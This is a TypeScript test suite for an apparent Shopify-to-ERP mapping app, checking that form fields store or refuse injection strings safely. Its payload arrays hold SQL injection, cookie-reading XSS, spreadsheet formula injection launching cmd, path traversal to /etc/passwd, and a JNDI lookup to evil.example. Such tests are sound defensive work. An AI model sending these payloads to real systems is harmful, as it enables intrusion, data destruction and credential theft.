/**
 * Injection strings in the mapping forms (SKU -> ERP item code, location -> warehouse, code
 * mappings): each is either refused on its field with a message that names it, or stored
 * verbatim and shown escaped; the tables are intact afterwards; and the exception search treats
 * LIKE wildcards as plain text. On SQLite and on PostgreSQL (which cannot store a NUL).
 */
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { AdminGraphqlClient } from "~/connectors/shopify/admin-api";
import { addCode, updateCode, type CodeTarget } from "~/flows/mappings/code-changes";
import { saveLocation } from "~/flows/mappings/location-changes";
import { saveSku } from "~/flows/mappings/sku-changes";
import { checkCode } from "~/flows/mappings/validation";
import { listExceptions } from "~/models/exception-list.server";
import { parseExceptionFilters } from "~/models/exception-filters";
import { describeEachDatabase } from "../integration/helpers/each-database";

/** Stored as typed: the database, the ERP and the page must treat them as text. */
const VERBATIM = [
  "'; DROP TABLE \"CodeMapping\"; --",
  "%' OR 1=1 --",
  "1; DELETE FROM Shop WHERE '1'='1",
  "\" OR \"\"=\"",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3+cmd|' /C calc'!A0",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "Ünïcødé ✓ 送料 🚚",
  "%_%",
];
/** Refused: characters that hide in a code, or that a database cannot hold. */
const HIDDEN = ["A\u0000B", "TAB\there", "LINE\nBREAK", "CR\rX", "ESC\u001B[31m", "DEL\u007F", "C1\u0085", "RTL\u202Egnp", "ZW\u200Bspace", "BOM\uFEFFx", "ISO\u2066late"];

describe("mapping form fields", () => {
  it.each(VERBATIM)("take %s verbatim", (value) => {
    expect(checkCode(value, "ERP item code")).toEqual({ ok: true, value });
  });

  it.each(HIDDEN.map((v) => [JSON.stringify(v), v]))("refuse %s, naming the field", (_, value) => {
    expect(checkCode(value, "ERP item code")).toEqual({ ok: false, error: "ERP item code must not contain control or invisible characters" });
  });

  it("refuse a very long value, naming the field and the limit", () => {
    expect(checkCode("A".repeat(101), "ERP tax code")).toEqual({ ok: false, error: "ERP tax code must be at most 100 characters" });
    expect(checkCode("A".repeat(1_000_000), "ERP tax code")).toEqual({ ok: false, error: "ERP tax code must be at most 100 characters" });
  });

  it("never throw, and either give back the trimmed text or a message naming the field (fuzzed)", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary", maxLength: 120 }), fc.string({ unit: "grapheme", maxLength: 120 }), fc.anything()), (raw) => {
        const checked = checkCode(raw, "Warehouse code");
        if (checked.ok) {
          expect(checked.value).toBe((raw as string).trim());
          expect(checked.value.length).toBeLessThanOrEqual(100);
        } else expect(checked.error.startsWith("Warehouse code ")).toBe(true);
      }),
      { numRuns: 2_000 },
    );
  });

  it("are rendered by React, never as raw HTML, on the mappings and audit pages", () => {
    const root = path.resolve(import.meta.dirname, "../../app");
    const pages = readdirSync(path.join(root, "routes")).filter((f) => /^app\.(mappings|audit|exceptions)/.test(f));
    expect(pages.length).toBeGreaterThan(3);
    for (const file of pages) expect(readFileSync(path.join(root, "routes", file), "utf8"), file).not.toMatch(/dangerouslySetInnerHTML|innerHTML\s*=/);
  });
});

describeEachDatabase("mapping changes with injection strings", ({ db }) => {
  let seq = 0;
  async function target(): Promise<CodeTarget & { shopDomain: string }> {
    const shopDomain = `inject-${++seq}-${Date.now().toString(36)}.myshopify.com`;
    const shop = await db().shop.create({ data: { domain: shopDomain } });
    const connection = await db().connection.create({ data: { shopId: shop.id, kind: "erp", provider: "reference", name: "ERP", settings: "{}" } });
    return { shopId: shop.id, connectionId: connection.id, shopDomain };
  }
  const deps = () => ({ db: db(), actor: "staff@example.com" });
  /** Every table still there and still answering. */
  async function tablesIntact() {
    expect(await db().shop.count()).toBeGreaterThan(0);
    expect(await db().codeMapping.count()).toBeGreaterThanOrEqual(0);
    expect(await db().skuMapping.count()).toBeGreaterThanOrEqual(0);
    expect(await db().locationMapping.count()).toBeGreaterThanOrEqual(0);
    expect(await db().auditEntry.count()).toBeGreaterThanOrEqual(0);
  }

  it("stores code mappings verbatim, one row each, and audits them verbatim", async () => {
    const t = await target();
    for (const [i, value] of VERBATIM.entries()) {
      const kind = (["tax", "shipping", "payment"] as const)[i % 3];
      const outcome = await addCode(deps(), t, { kind, shopifyCode: `${value} #${i}`, erpCode: value });
      expect(outcome, value).toMatchObject({ ok: true });
    }
    const rows = await db().codeMapping.findMany({ where: { connectionId: t.connectionId } });
    expect(rows).toHaveLength(VERBATIM.length);
    expect(rows.map((r) => r.erpCode).sort()).toEqual([...VERBATIM].sort());
    const audit = await db().auditEntry.findMany({ where: { shopId: t.shopId, action: "code_mapping.create" } });
    expect(audit).toHaveLength(VERBATIM.length);
    expect(audit.some((a) => (JSON.parse(a.details) as { summary: string }).summary.includes(VERBATIM[0]))).toBe(true);
    await tablesIntact();
  });

  it("refuses hidden characters and NUL on their field, stores nothing and never fails the request", async () => {
    const t = await target();
    for (const value of HIDDEN) {
      expect(await addCode(deps(), t, { kind: "tax", shopifyCode: value, erpCode: "VAT" }), JSON.stringify(value)).toMatchObject({
        ok: false,
        errors: { shopifyCode: expect.stringMatching(/ must not contain control or invisible characters$/) },
      });
      expect(await addCode(deps(), t, { kind: "tax", shopifyCode: "VAT 20%", erpCode: value }), JSON.stringify(value)).toMatchObject({
        ok: false,
        errors: { erpCode: expect.stringMatching(/ must not contain control or invisible characters$/) },
      });
    }
    expect(await db().codeMapping.count({ where: { connectionId: t.connectionId } })).toBe(0);
    // An update cannot slip one in either.
    expect(await addCode(deps(), t, { kind: "shipping", shopifyCode: "Standard", erpCode: "STD" })).toMatchObject({ ok: true });
    const row = await db().codeMapping.findFirstOrThrow({ where: { connectionId: t.connectionId } });
    const updated = await updateCode(deps(), t, { id: row.id, shopifyCode: "Standard", erpCode: "STD\u0000; DROP TABLE x" });
    expect(updated).toMatchObject({ ok: false, errors: { erpCode: expect.stringContaining("must not contain control or invisible characters") } });
    expect((await db().codeMapping.findUniqueOrThrow({ where: { id: row.id } })).erpCode).toBe("STD");
    await tablesIntact();
  });

  it("refuses a warehouse the ERP does not have, naming it as typed, and stores nothing", async () => {
    const t = await target();
    const client: AdminGraphqlClient = {
      request: async () => ({ data: { locations: { nodes: [{ id: "gid://shopify/Location/1", name: "Main" }], pageInfo: { hasNextPage: false, endCursor: null } } } }),
    } as unknown as AdminGraphqlClient;
    const erp = { listWarehouses: async () => [{ erpId: "MAIN", name: "Main warehouse" }] };
    for (const value of [...VERBATIM, "MAIN' OR '1'='1", "MAIN%", "MAI_"]) {
      const outcome = await saveLocation({ db: db(), client, erp, actor: "staff@example.com" }, t, { locationId: "1", erpWarehouseId: value, safetyStock: "0" });
      expect(outcome, value).toEqual({ ok: false, errors: { erpWarehouseId: `The ERP has no warehouse "${value.trim()}"` } });
    }
    expect(await db().locationMapping.count({ where: { connectionId: t.connectionId } })).toBe(0);
    expect(await saveLocation({ db: db(), client, erp, actor: "staff@example.com" }, t, { locationId: "1", erpWarehouseId: "MAIN", safetyStock: "0" })).toMatchObject({ ok: true });
    await tablesIntact();
  });

  it("refuses a hidden or overlong ERP item code before asking Shopify or the ERP anything", async () => {
    const t = await target();
    const untouchable = new Proxy({}, { get: () => { throw new Error("must not be called for a refused form"); } });
    for (const value of [...HIDDEN, "X".repeat(101)]) {
      const outcome = await saveSku({ db: db(), client: untouchable as AdminGraphqlClient, erp: untouchable as never, actor: "staff@example.com" }, t, { variantId: "1", erpItemCode: value, safetyStock: "" });
      expect(outcome, JSON.stringify(value).slice(0, 30)).toMatchObject({ ok: false, errors: { erpItemCode: expect.stringMatching(/^ERP item code must /) } });
    }
    expect(await db().skuMapping.count({ where: { connectionId: t.connectionId } })).toBe(0);
  });

  it("searches exceptions with LIKE wildcards and quotes as plain text", async () => {
    const t = await target();
    const names = ["#1001", "#1002", "#10_3", "#50%off", "O'Brien's order"];
    for (const [i, sourceName] of names.entries()) {
      await db().syncException.create({ data: { shopId: t.shopId, flow: "orders", errorClass: "mapping", message: "x", correlationId: `c${i}`, sourceType: "order", sourceId: String(9000 + i), sourceName } });
    }
    const search = async (q: string) => (await listExceptions(db(), t.shopId, parseExceptionFilters(new URLSearchParams({ status: "all", q })))).rows.map((r) => r.sourceName).sort();
    // A wildcard character is text: alone it matches nothing, in a whole name it finds that name.
    expect(await search("%")).toEqual([]);
    expect(await search("_")).toEqual([]);
    expect(await search("#10_")).toEqual([]);
    expect(await search("#100%")).toEqual([]);
    expect(await search("\\")).toEqual([]);
    expect(await search("#10_3")).toEqual(["#10_3"]);
    expect(await search("10_3")).toEqual(["#10_3"]);
    expect(await search("#50%off")).toEqual(["#50%off"]);
    expect(await search("' OR '1'='1")).toEqual([]);
    expect(await search("O'Brien")).toEqual(["O'Brien's order"]);
    expect(await search("#100")).toEqual(["#1001", "#1002"]);
  });
});
